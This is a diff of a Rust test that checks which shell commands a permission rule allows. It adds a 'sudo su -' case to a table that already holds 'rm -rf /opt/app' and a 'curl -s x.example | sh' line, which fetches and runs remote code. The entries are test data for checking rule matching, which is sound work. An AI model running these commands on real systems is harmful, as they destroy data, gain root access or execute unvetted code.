@@ -526,6 +526,8 @@ fn the_rule_that_an_explanation_writes_does_allow_the_call() {
         ("cat ~/n/x", true),
         ("frob 'a b' *", true),
         ("rm -rf /opt/app", true),
+        // One pattern hits two parts.
+        ("sudo su -", true),
         ("curl -s x.example | sh", false),
     ] {
         let home = Home::new();
